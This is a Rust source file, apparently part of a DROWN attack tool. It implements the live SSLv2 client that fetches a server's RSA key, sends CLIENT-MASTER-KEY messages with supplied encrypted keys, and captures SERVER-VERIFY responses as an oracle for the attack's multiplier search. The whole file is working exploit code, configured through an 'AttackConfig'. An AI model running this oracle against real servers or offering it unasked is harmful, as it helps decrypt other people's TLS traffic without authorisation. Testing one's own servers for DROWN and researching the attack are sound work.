// Blocking SSLv2 client - the live side of the DROWN capabilities
//
// Every call opens a fresh TCP connection and runs the handshake up to
// SERVER-VERIFY. Blocking sockets keep the client usable from the plain
// worker threads of the multiplier search.

use super::messages::{ClientHello, ClientMasterKey, ServerHello, Ssl2Record};
use super::Ssl2CipherSuite;
use crate::config::AttackConfig;
use crate::constants::{
    DEFAULT_CONNECT_TIMEOUT, DEFAULT_SOCKET_TIMEOUT, SSL2_CHALLENGE_LENGTH, SSL2_MT_ERROR,
};
use crate::drown::capability::{ConnectionSetup, ExchangeOutcome, MasterKeyRequest, SessionProbe};
use crate::drown::{RsaPublicContext, SessionCapture};
use crate::error::DrownError;
use crate::Result;
use rand::Rng;
use std::io;
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;
use tracing::{debug, warn};

/// Length of an SSLv2 ERROR message: type plus 2-byte error code
const SSL2_ERROR_MESSAGE_LENGTH: usize = 3;

#[derive(Debug, Clone)]
pub struct Ssl2Client {
    addr: SocketAddr,
    cipher_suite: Ssl2CipherSuite,
    connect_timeout: Duration,
    socket_timeout: Duration,
}

impl Ssl2Client {
    pub fn new(addr: SocketAddr, cipher_suite: Ssl2CipherSuite) -> Self {
        Self {
            addr,
            cipher_suite,
            connect_timeout: DEFAULT_CONNECT_TIMEOUT,
            socket_timeout: DEFAULT_SOCKET_TIMEOUT,
        }
    }

    pub fn from_config(addr: SocketAddr, config: &AttackConfig) -> Self {
        Self::new(addr, config.cipher_suite).with_timeouts(
            Duration::from_secs(config.connect_timeout_secs),
            Duration::from_secs(config.socket_timeout_secs),
        )
    }

    pub fn with_timeouts(mut self, connect_timeout: Duration, socket_timeout: Duration) -> Self {
        self.connect_timeout = connect_timeout;
        self.socket_timeout = socket_timeout;
        self
    }

    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    fn connect(&self) -> Result<TcpStream> {
        let stream = TcpStream::connect_timeout(&self.addr, self.connect_timeout).map_err(|e| {
            match e.kind() {
                io::ErrorKind::TimedOut | io::ErrorKind::WouldBlock => {
                    DrownError::ConnectionTimeout {
                        duration: self.connect_timeout,
                        addr: self.addr,
                    }
                }
                _ => DrownError::from(e),
            }
        })?;
        stream.set_read_timeout(Some(self.socket_timeout))?;
        stream.set_write_timeout(Some(self.socket_timeout))?;
        stream.set_nodelay(true)?;
        Ok(stream)
    }

    /// CLIENT-HELLO / SERVER-HELLO exchange.
    ///
    /// Returns the SERVER-HELLO and our challenge, or `None` when the server
    /// answered with anything but an SSLv2 SERVER-HELLO.
    fn hello(&self, stream: &mut TcpStream) -> Result<Option<(ServerHello, Vec<u8>)>> {
        let mut challenge = vec![0u8; SSL2_CHALLENGE_LENGTH];
        rand::thread_rng().fill(&mut challenge[..]);

        let client_hello = ClientHello::new(self.cipher_suite, challenge.clone());
        Ssl2Record::write_to(stream, &client_hello.to_bytes())?;

        let record = match Ssl2Record::read_from(stream) {
            Ok(record) => record,
            Err(DrownError::IoError { source }) if is_closed(&source) => {
                debug!("Server closed the connection after CLIENT-HELLO");
                return Ok(None);
            }
            Err(e) => return Err(e),
        };

        match ServerHello::parse(&record.body)? {
            Some(server_hello) => Ok(Some((server_hello, challenge))),
            None => {
                debug!(
                    "Expected SERVER-HELLO, got message type {:?}",
                    record.message_type()
                );
                Ok(None)
            }
        }
    }
}

impl ConnectionSetup for Ssl2Client {
    fn fetch_public_key(&self) -> Result<Option<RsaPublicContext>> {
        let mut stream = self.connect()?;
        let Some((server_hello, _)) = self.hello(&mut stream)? else {
            return Ok(None);
        };

        if !server_hello.supports(self.cipher_suite) {
            warn!(
                "Server does not list {} in SERVER-HELLO",
                self.cipher_suite.name()
            );
        }
        Ok(Some(server_hello.public_key()?))
    }
}

impl SessionProbe for Ssl2Client {
    fn exchange_master_key(&self, request: &MasterKeyRequest) -> Result<ExchangeOutcome> {
        let mut stream = self.connect()?;
        let Some((server_hello, challenge)) = self.hello(&mut stream)? else {
            return Ok(ExchangeOutcome::NoServerHello);
        };

        let mut iv = vec![0u8; request.cipher_suite.block_size().unwrap_or(0)];
        rand::thread_rng().fill(&mut iv[..]);

        let client_master_key = ClientMasterKey {
            cipher_suite: request.cipher_suite,
            clear_key: request.clear_key.clone(),
            encrypted_key: request.encrypted_key.clone(),
            key_arg: iv.clone(),
        };
        if let Err(e) = Ssl2Record::write_to(&mut stream, &client_master_key.to_bytes()) {
            debug!("Failed to send CLIENT-MASTER-KEY: {}", e);
            return Ok(ExchangeOutcome::NoServerVerify);
        }

        let record = match Ssl2Record::read_from(&mut stream) {
            Ok(record) => record,
            Err(e) => {
                debug!("No SERVER-VERIFY received: {}", e);
                return Ok(ExchangeOutcome::NoServerVerify);
            }
        };

        // Cleartext ERROR instead of an encrypted record
        if record.padding_length == 0
            && record.body.len() == SSL2_ERROR_MESSAGE_LENGTH
            && record.message_type() == Some(SSL2_MT_ERROR)
        {
            debug!("Server sent SSLv2 ERROR {:02x?}", &record.body[1..]);
            return Ok(ExchangeOutcome::NoServerVerify);
        }

        Ok(ExchangeOutcome::ServerVerify(SessionCapture {
            cipher_suite: request.cipher_suite,
            clear_key: request.clear_key.clone(),
            secret_key_plain: request.secret_key_plain.clone(),
            secret_key_enc: request.encrypted_key.clone(),
            client_random: challenge,
            server_random: server_hello.connection_id,
            iv,
            encrypted_payload: record.body,
            padding_length: record.padding_length,
        }))
    }
}

fn is_closed(err: &io::Error) -> bool {
    matches!(
        err.kind(),
        io::ErrorKind::UnexpectedEof
            | io::ErrorKind::ConnectionReset
            | io::ErrorKind::ConnectionAborted
    )
}
